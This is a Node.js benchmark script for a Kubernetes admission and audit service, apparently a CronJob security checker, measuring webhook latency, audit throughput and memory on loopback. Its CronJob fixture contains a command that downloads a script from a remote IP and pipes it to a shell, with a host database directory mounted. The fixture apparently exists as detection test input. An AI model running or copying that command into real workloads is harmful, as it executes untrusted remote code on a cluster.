// `jobsentinel serve` on loopback: AdmissionReview latency at concurrency 16 (goal p99 <= 50 ms),
// beside an idle HTTPS echo server as the floor (TLS + HTTP cost alone); audit batches of 400
// events per second; server RSS under load. Bounded: a few seconds per measurement.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { createServer, request } from 'node:https';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startServer } from '../packages/cli/dist/serve/server.js';

const dir = mkdtempSync(join(tmpdir(), 'jobsentinel-bench-'));
execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-keyout', join(dir, 'k'), '-out', join(dir, 'c'), '-subj', '/CN=localhost', '-addext', 'subjectAltName=IP:127.0.0.1'], { stdio: 'ignore' });
const cert = readFileSync(join(dir, 'c'));
const key = readFileSync(join(dir, 'k'));
const SECONDS = Number(process.env.BENCH_SECONDS ?? 3);

const cronjob = { apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'backup', namespace: 'ops' }, spec: { schedule: '*/5 * * * *', jobTemplate: { spec: { template: { spec: { restartPolicy: 'OnFailure', containers: [{ name: 'b', image: 'alpine:3.20', command: ['/bin/sh', '-c', 'apk add curl && curl -s http://198.51.100.7/x.sh | sh; tar czf /backup/db.tgz /data'], volumeMounts: [{ name: 'd', mountPath: '/data' }] }], volumes: [{ name: 'd', hostPath: { path: '/var/lib/db' } }] } } } } } };
const review = JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', request: { uid: 'u', kind: { group: 'batch', version: 'v1', kind: 'CronJob' }, operation: 'CREATE', namespace: 'ops', object: cronjob } });
const event = (index) => ({ kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'Request', auditID: `id-${index}`, stage: 'ResponseComplete', verb: index % 4 === 0 ? 'create' : 'get', requestURI: '/apis/batch/v1/namespaces/ops/cronjobs', user: { username: 'u' }, objectRef: { resource: index % 4 === 0 ? 'cronjobs' : 'pods', namespace: 'ops', name: `c${index}`, apiGroup: 'batch', apiVersion: 'v1' }, responseStatus: { code: 201 }, requestObject: index % 4 === 0 ? cronjob : undefined });
const batch = JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: Array.from({ length: 400 }, (_, index) => event(index)) });

const agent = new (await import('node:https')).Agent({ keepAlive: true, maxSockets: 16, ca: cert });
function post(port, path, body) {
  return new Promise((resolve, reject) => {
    const started = performance.now();
    const req = request({ host: '127.0.0.1', port, method: 'POST', path, agent, headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } }, (response) => {
      response.resume();
      response.on('end', () => (response.statusCode === 200 ? resolve(performance.now() - started) : reject(new Error(`HTTP ${response.statusCode}`))));
    });
    req.on('error', reject);
    req.end(body);
  });
}

async function load(port, path, body, concurrency) {
  const latencies = [];
  const until = performance.now() + SECONDS * 1000;
  await Promise.all(Array.from({ length: concurrency }, async () => {
    while (performance.now() < until) latencies.push(await post(port, path, body));
  }));
  latencies.sort((a, b) => a - b);
  const at = (q) => latencies[Math.min(latencies.length - 1, Math.floor(q * latencies.length))].toFixed(1);
  return { count: latencies.length, p50: at(0.5), p99: at(0.99), perSecond: (latencies.length / SECONDS).toFixed(0) };
}

const echo = createServer({ cert, key }, (req, res) => { req.resume(); req.on('end', () => res.end('{}')); });
await new Promise((resolve) => echo.listen(0, '127.0.0.1', resolve));
const floor = await load(echo.address().port, '/', review, 16);
echo.close();

const running = await startServer({ cert, key, host: '127.0.0.1', port: 0, enforce: false, maxBodyBytes: 12 << 20, log: () => {}, emit: () => {} });
await load(running.address.port, '/validate', review, 16); // warm-up
const validate = await load(running.address.port, '/validate', review, 16);
const rssAfterValidate = process.memoryUsage().rss;
const audit = await load(running.address.port, '/audit', batch, 4);
const rss = Math.max(rssAfterValidate, process.memoryUsage().rss);
await running.drain(1000);
agent.destroy();

console.log(`idle HTTPS echo (floor), c=16:   p50 ${floor.p50} ms, p99 ${floor.p99} ms, ${floor.perSecond}/s`);
console.log(`AdmissionReview /validate, c=16: p50 ${validate.p50} ms, p99 ${validate.p99} ms, ${validate.perSecond}/s (goal p99 <= 50 ms: ${Number(validate.p99) <= 50 ? 'met' : 'NOT met'})`);
console.log(`audit batches of 400 events:     ${audit.perSecond} batches/s (${audit.perSecond * 400} events/s), p99 ${audit.p99} ms`);
console.log(`RSS under load (server and client in one process): ${(rss / 2 ** 20).toFixed(0)} MiB`);
